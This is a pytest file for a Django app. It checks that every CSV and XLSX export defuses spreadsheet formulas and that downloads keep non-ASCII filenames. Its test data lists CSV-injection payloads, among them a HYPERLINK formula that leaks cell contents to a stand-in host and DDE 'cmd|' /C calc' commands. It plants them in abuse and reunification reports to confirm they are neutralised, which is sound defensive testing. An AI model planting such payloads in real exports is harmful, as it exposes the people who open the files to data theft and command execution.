"""Issue 23: one CSV writer (and XLSX cell rule) for every export, with one formula rule; and
download names in the RFC 6266 ``filename*`` form everywhere files are served.

- ``defuse`` covers = + - @, tab, CR/LF, their Unicode look-alikes, after leading spaces;
- an abuse dossier and a reunification report with planted formulas come out defused;
- no code outside ``puente/core/tabular.py`` writes CSV with ``csv.writer``/``csv.DictWriter``
  or sets ``Content-Disposition`` by hand (an AST walk over the code base);
- a file with a non-ASCII name is served as an attachment that keeps its name.
"""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from djmoney.money import Money

from puente.core.tabular import defuse, is_formula

ROOT = Path(__file__).resolve().parent.parent / "puente"
THE_MODULE = ROOT / "core" / "tabular.py"

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "   =1+1", "\u00a0\u2003=1+1", "\u200b=1+1",
    "＝HYPERLINK(\"x\")", "＋cmd|x", "－cmd|x", "＠SUM(A1)", "﹦1", "﹢1", "﹣A1", "﹫A1", "⁼1", "₊A1",
    "\u2212A1", "\u2013A1", "  ＝1",
]
HARMLESS = ["Reclutadora del Norte", "", "a=b", "-12.50", "+502 7764 0000", "(81) 1234-5678", "1,234.00", "José"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_cells_are_defused(text):
    assert is_formula(text)
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_cells_are_left_alone(text):
    assert defuse(text) == text


def test_numbers_and_none():
    from decimal import Decimal

    assert defuse(-5) == -5 and defuse(Decimal("-1.5")) == Decimal("-1.5") and defuse(None) == ""


def _calls_outside_the_module(root=ROOT):
    found = []
    for path in sorted(root.rglob("*.py")):
        if "migrations" in path.parts or path == THE_MODULE:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(root.parent)}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and (
                isinstance(node.value, ast.Name) and node.value.id in ("csv", "_csv")
            ):
                found.append(f"{where}: csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module in ("csv", "_csv") and any(
                a.name in ("writer", "DictWriter") for a in node.names
            ):
                found.append(f"{where}: from csv import writer")
            if isinstance(node, ast.Constant) and str(node.value).lower() == "content-disposition":
                found.append(f"{where}: Content-Disposition set by hand")
    return found


def test_no_csv_written_or_download_named_another_way():
    found = _calls_outside_the_module()
    assert not found, (
        "Write CSV with puente.core.tabular (writer/csv_text/csv_response/csv_stream) and name "
        "downloads with tabular.attachment:\n" + "\n".join(found)
    )


def test_the_check_finds_a_csv_writer(tmp_path):
    """The walk above is not vacuous: it finds a csv.writer where there is one."""
    bad = tmp_path / "puente" / "x"
    bad.mkdir(parents=True)
    (bad / "bad.py").write_text('import csv\nw = csv.writer(f)\nr["Content-Disposition"] = "x"\n')
    assert len(_calls_outside_the_module(tmp_path / "puente")) == 2


def _client(user):
    c = Client()
    c.force_login(user)
    return c


def _rows(response):
    body = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.django_db
def test_abuse_dossier_defuses_planted_formulas(coordinator, defender_user):
    from puente.abuse import actions
    from puente.abuse.models import Incident

    planted = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report = actions.do_file_report(
        acting_user=defender_user, recruiter_names=["Agencia Xol"], employer_name="＝HYPERLINK(\"http://e.x\")",
        municipality=planted,
    )
    actions.do_add_incident(report, acting_user=defender_user, kind=Incident.Kind.FEE, amount=Money("100", "MXN"),
                            paid_to=planted)
    recruiter = report.recruiters.get()
    response = _client(coordinator).get(reverse("abuse:dossier_csv", args=[recruiter.pk]))
    cells = [c for row in _rows(response) for c in row]
    assert not [c for c in cells if is_formula(c)], cells
    assert "'＝HYPERLINK(\"http://e.x\")" in cells


@pytest.mark.django_db
def test_reunification_report_defuses_planted_formulas(coordinator):
    from puente.locate import actions

    planted = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    person = actions.do_create_person(acting_user=coordinator, given_names=planted, surname_1="@SUM(A1)")
    project = actions.do_create_project(acting_user=coordinator, name="Padres")
    actions.do_add_to_project(project, person, acting_user=coordinator, auto_assign=False)
    response = _client(coordinator).get(reverse("locate:project_report_csv", args=[project.pk]))
    cells = [c for row in _rows(response) for c in row]
    assert any(planted in c for c in cells)
    assert not [c for c in cells if is_formula(c)], cells


@pytest.mark.django_db
def test_download_keeps_a_non_ascii_name_as_an_attachment(world):
    from puente.abuse import actions

    name = "declaración_Ñandú_王小明.pdf"
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    evidence = actions.do_add_evidence(world.abuse_report, SimpleUploadedFile(name, pdf), acting_user=world.defender)
    url = reverse("abuse:evidence_download", args=[world.abuse_report.pk, evidence.pk])
    response = _client(world.defender).get(url)
    header = response["Content-Disposition"]
    assert header.startswith("attachment; ")
    assert "filename*=utf-8''declaraci%C3%B3n_%C3%91and%C3%BA_%E7%8E%8B%E5%B0%8F%E6%98%8E.pdf" in header
    assert header.isascii()
